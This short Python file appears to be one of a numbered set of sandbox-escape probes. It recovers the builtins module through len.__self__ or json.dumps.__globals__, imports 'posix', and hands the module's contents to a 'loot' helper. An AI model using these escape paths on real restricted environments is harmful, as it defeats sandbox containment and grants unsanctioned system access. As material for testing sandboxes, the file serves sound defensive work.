# A23: len.__self__ (the builtins module) / json.dumps.__globals__.
import json


def handle(request):
    out = []
    try:
        b = len.__self__  # GATE
        out.append(repr(b))
        posix = b.__import__('posix')
        out.append(repr(posix))
        return loot(posix.__dict__, out)
    except Exception as e:
        out.append('len.__self__: ' + repr(e))
    g = json.dumps.__globals__
    out.append(str(sorted(g)))
    return loot(g['__builtins__']['__import__']('posix').__dict__, out)
